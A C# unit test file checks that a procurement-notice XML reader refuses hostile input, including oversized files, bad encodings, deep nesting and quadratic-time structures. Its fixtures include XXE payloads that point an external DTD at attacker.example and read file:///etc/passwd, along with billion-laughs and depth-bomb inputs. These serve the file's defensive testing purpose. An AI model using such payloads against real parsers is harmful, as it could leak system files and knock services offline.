using System.Diagnostics;
using System.Text;
using SupplierDiversity.Rules.Notices;

namespace SupplierDiversity.Rules.Tests.Notices;

public class NoticeHostileTests
{
    private static readonly string Good = NoticeXml.Call(NoticeXml.Lot("LOT-0001"));

    [Theory]
    [InlineData("<!DOCTYPE ContractNotice>")]
    [InlineData("<!DOCTYPE ContractNotice SYSTEM \"http://attacker.example/evil.dtd\">")]
    [InlineData("<!DOCTYPE ContractNotice [<!ENTITY secret SYSTEM \"file:///etc/passwd\">]>")]
    [InlineData("<!DOCTYPE ContractNotice [<!ENTITY % remote SYSTEM \"http://attacker.example/x\"> %remote;]>")]
    [InlineData("<!DOCTYPE lolz [<!ENTITY a \"lol\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\">]>")]
    public void Read_Doctype_IsRefusedNamingIt(string doctype)
    {
        var refusal = NoticeXml.Refusal(Good.Replace("?>", "?>\n" + doctype, StringComparison.Ordinal));
        Assert.Equal(("DOCTYPE", 2), (refusal.Element, refusal.Line));
        Assert.Contains("DOCTYPE", refusal.Reason, StringComparison.Ordinal);
    }

    [Fact]
    public void Read_UndeclaredEntity_IsRefusedWithItsLine()
    {
        var refusal = NoticeXml.Refusal(Good.Replace("Reinigung", "&secret;", StringComparison.Ordinal));
        Assert.True(refusal.Line > 2);
    }

    [Fact]
    public void Read_HundredMegabytes_AreRefusedAtOnce()
    {
        var file = new byte[100_000_000];
        var clock = Stopwatch.StartNew();
        var refusal = NoticeXml.Refusal(file);
        Assert.Contains("10000000 bytes", refusal.Reason, StringComparison.Ordinal);
        Assert.True(clock.Elapsed < TimeSpan.FromSeconds(1));
    }

    [Theory]
    [InlineData(65)]
    [InlineData(200_000)]
    public void Read_DepthBomb_IsRefused(int levels)
    {
        var bomb = string.Concat(Enumerable.Repeat("<x>", levels)) + string.Concat(Enumerable.Repeat("</x>", levels));
        var refusal = NoticeXml.Refusal(Good.Replace("</ContractNotice>", bomb + "</ContractNotice>", StringComparison.Ordinal));
        Assert.Contains("64 levels", refusal.Reason, StringComparison.Ordinal);
    }

    [Fact]
    public void Read_DeepButAllowedForeignElements_ArePassedOver()
    {
        var deep = string.Concat(Enumerable.Repeat("<x>", 60)) + "text" + string.Concat(Enumerable.Repeat("</x>", 60));
        Assert.Single(NoticeXml.Read(Good.Replace("</ContractNotice>", deep + "</ContractNotice>", StringComparison.Ordinal)).Lots);
    }

    [Fact]
    public void Read_BrokenUtf8_IsRefusedNamingTheEncoding()
    {
        var bytes = Encoding.UTF8.GetBytes(Good);
        bytes[bytes.AsSpan().IndexOf("Reinigung"u8)] = 0xC3;
        Assert.Contains("encoding", NoticeXml.Refusal(bytes).Reason, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("UTF-7")]
    [InlineData("utf-7")]
    public void Read_Utf7_IsRefusedNamingIt(string name)
    {
        var refusal = NoticeXml.Refusal(Good.Replace("UTF-8", name, StringComparison.Ordinal));
        Assert.Contains("UTF-7", refusal.Reason, StringComparison.Ordinal);
        Assert.Contains("UTF-7", NoticeXml.Refusal([.. "+/v8-"u8, .. Encoding.UTF8.GetBytes(Good)]).Reason, StringComparison.Ordinal);
    }

    [Fact]
    public void Read_UnknownEncoding_IsRefusedNamingTheEncoding() =>
        Assert.Contains("encoding", NoticeXml.Refusal(Good.Replace("UTF-8", "x-martian", StringComparison.Ordinal)).Reason, StringComparison.Ordinal);

    [Fact]
    public void Read_EveryTruncation_IsRefusedAndNeverThrows()
    {
        var bytes = Encoding.UTF8.GetBytes(Good);
        var cuts = 0;
        for (var length = 0; length < bytes.Length - 1; length += 7, cuts++)
        {
            Assert.NotEmpty(NoticeXml.Refusal(bytes[..length]).Reason);
        }

        Assert.True(cuts > 200);
    }

    [Fact]
    public void Read_RandomDamage_NeverThrows()
    {
        var bytes = Encoding.UTF8.GetBytes(Good);
        var random = new Random(20250301);
        for (var round = 0; round < 3_000; round++)
        {
            var damaged = (byte[])bytes.Clone();
            for (var hits = random.Next(1, 6); hits > 0; hits--)
            {
                damaged[random.Next(damaged.Length)] = (byte)random.Next(256);
            }

            var reading = NoticeReader.Read(damaged, NoticeLimits.Default);
            Assert.True(reading.Notice is null != reading.Refusal is null);
        }
    }

    [Theory]
    [InlineData("")]
    [InlineData("   \n")]
    [InlineData("not xml at all")]
    [InlineData("{\"json\": true}")]
    [InlineData("<html><body>Not found</body></html>")]
    [InlineData("<ContractNotice/>")]
    [InlineData("<x:ContractNotice xmlns:x=\"urn:oasis:names:specification:ubl:schema:xsd:Invoice-2\"/>")]
    public void Read_SomethingElse_IsRefusedWithAReason(string text) => Assert.EndsWith(".", NoticeXml.Refusal(text).Reason, StringComparison.Ordinal);

    [Fact]
    public void Read_WrongRoot_NamesItAndItsLine()
    {
        var refusal = NoticeXml.Refusal("<?xml version=\"1.0\"?>\n\n<Invoice/>");
        Assert.Equal(("Invoice", 3), (refusal.Element, refusal.Line));
    }

    [Fact]
    public void Read_ByteOrderMarkAndUtf16_AreUnderstood()
    {
        foreach (var encoding in new Encoding[] { new UTF8Encoding(true), new UnicodeEncoding(false, true), new UnicodeEncoding(true, true) })
        {
            var xml = Good.Replace("UTF-8", encoding is UTF8Encoding ? "utf-8" : "UTF-16", StringComparison.Ordinal);
            var reading = NoticeReader.Read(encoding.GetPreamble().Concat(encoding.GetBytes(xml)).ToArray(), NoticeLimits.Default);
            Assert.Equal("Reinigung der Schulen", reading.Notice!.Title.ByLanguage["de"]);
        }
    }

    [Fact]
    public void Read_Utf16WithDoctype_IsRefusedNamingIt()
    {
        var xml = Good.Replace("UTF-8", "UTF-16", StringComparison.Ordinal).Replace("?>", "?><!DOCTYPE x>", StringComparison.Ordinal);
        Assert.Equal("DOCTYPE", NoticeXml.Refusal([.. Encoding.Unicode.GetPreamble(), .. Encoding.Unicode.GetBytes(xml)]).Element);
    }

    [Fact]
    public void Read_MoreThanTheLimits_IsRefusedNamingTheElement()
    {
        var small = new NoticeLimits { MaxLots = 1, MaxOrganisations = 1, MaxTextLength = 200, MaxAttributes = 8 };
        byte[] Bytes(string xml) => Encoding.UTF8.GetBytes(xml);
        Assert.Equal("cac:ProcurementProjectLot", NoticeXml.Refusal(Bytes(NoticeXml.Call(NoticeXml.Lot("LOT-0001") + NoticeXml.Lot("LOT-0002"))), small).Element);
        Assert.Equal("efac:Organization", NoticeXml.Refusal(Bytes(NoticeXml.Award("", NoticeXml.Organisation("ORG-0002", "Zweite GmbH"))), small).Element);
        Assert.Equal("Name", NoticeXml.Refusal(Bytes(Good.Replace("Reinigung", new string('a', 201), StringComparison.Ordinal)), small).Element);
        Assert.Equal("Name", NoticeXml.Refusal(Bytes(Good.Replace("Reinigung", string.Concat(Enumerable.Repeat("<!---->ab", 101)), StringComparison.Ordinal)), small).Element);
        Assert.Equal("VersionID", NoticeXml.Refusal(Bytes(Good.Replace(">02<", ">" + new string('2', 2_001) + "<", StringComparison.Ordinal))).Element);
        var attributes = string.Concat(Enumerable.Range(0, 9).Select(i => $" a{i}=\"\""));
        Assert.Equal("VersionID", NoticeXml.Refusal(Bytes(Good.Replace("<cbc:VersionID", "<cbc:VersionID" + attributes, StringComparison.Ordinal)), small).Element);
    }

    [Fact]
    public void Read_ReferencesThatMultiply_AreRefusedQuickly()
    {
        // 2 000 results × one contract of 2 000 tenders × a consortium of 2 000: eight billion winners in under 1 MB.
        const int n = 2_000;
        var ids = Enumerable.Range(0, n).ToList();
        var result = string.Concat(ids.Select(i => $"<efac:LotResult><cbc:ID>R{i}</cbc:ID><efac:SettledContract><cbc:ID>C</cbc:ID></efac:SettledContract></efac:LotResult>"))
            + string.Concat(ids.Select(i => $"<efac:LotTender><cbc:ID>T{i}</cbc:ID><efac:TenderingParty><cbc:ID>P</cbc:ID></efac:TenderingParty></efac:LotTender>"))
            + "<efac:SettledContract><cbc:ID>C</cbc:ID>" + string.Concat(ids.Select(i => $"<efac:LotTender><cbc:ID>T{i}</cbc:ID></efac:LotTender>")) + "</efac:SettledContract>"
            + "<efac:TenderingParty><cbc:ID>P</cbc:ID>" + string.Concat(ids.Select(i => $"<efac:Tenderer><cbc:ID>ORG-{i}</cbc:ID></efac:Tenderer>")) + "</efac:TenderingParty>";
        var clock = Stopwatch.StartNew();
        Assert.Equal("efac:NoticeResult", NoticeXml.Refusal(NoticeXml.Award(result)).Element);
        Assert.True(clock.Elapsed < TimeSpan.FromSeconds(3));
    }

    [Fact]
    public void Read_WideTenderNamedByManyResults_IsReadOnce()
    {
        var result = string.Concat(Enumerable.Range(0, 5_000).Select(i => $"<efac:LotResult><cbc:ID>R{i}</cbc:ID><cbc:TenderResultCode>selec-w</cbc:TenderResultCode><efac:LotTender><cbc:ID>T</cbc:ID></efac:LotTender></efac:LotResult>"))
            + "<efac:LotTender>" + string.Concat(Enumerable.Repeat("<cbc:Name/>", 200_000)) + "<cbc:ID>T</cbc:ID></efac:LotTender>";
        var clock = Stopwatch.StartNew();
        Assert.Equal(5_000, NoticeXml.Read(NoticeXml.Award(result)).Result!.LotResults.Sum(r => r.Winners.Count));
        Assert.True(clock.Elapsed < TimeSpan.FromSeconds(3), $"It took {clock.Elapsed}.");
    }

    [Fact]
    public void Read_TenMegabytesOfRepetition_TakesNoQuadraticTime()
    {
        string Many(string element) => string.Concat(Enumerable.Repeat(element, 40_000));
        var codes = string.Concat(Enumerable.Range(0, 40_000).Select(i => $"<cac:AdditionalCommodityClassification><cbc:ItemClassificationCode>{i:D8}</cbc:ItemClassificationCode></cac:AdditionalCommodityClassification>"));
        var terms = Many("<cac:ContractExecutionRequirement><cbc:ExecutionRequirementCode listName=\"conditions\">performance</cbc:ExecutionRequirementCode><cbc:Description>x</cbc:Description></cac:ContractExecutionRequirement>");
        var xml = NoticeXml.Call(NoticeXml.Lot("LOT-0001", $"<cac:TenderingTerms>{terms[..(terms.Length / 4)]}</cac:TenderingTerms><cac:ProcurementProject>{codes}</cac:ProcurementProject>"));
        var clock = Stopwatch.StartNew();
        var reading = NoticeReader.Read(Encoding.UTF8.GetBytes(xml), NoticeLimits.Default);
        Assert.Equal(40_000, reading.Notice!.Lots[0].Cpv.Count);
        Assert.True(clock.Elapsed < TimeSpan.FromSeconds(3), $"It took {clock.Elapsed}.");
    }
}
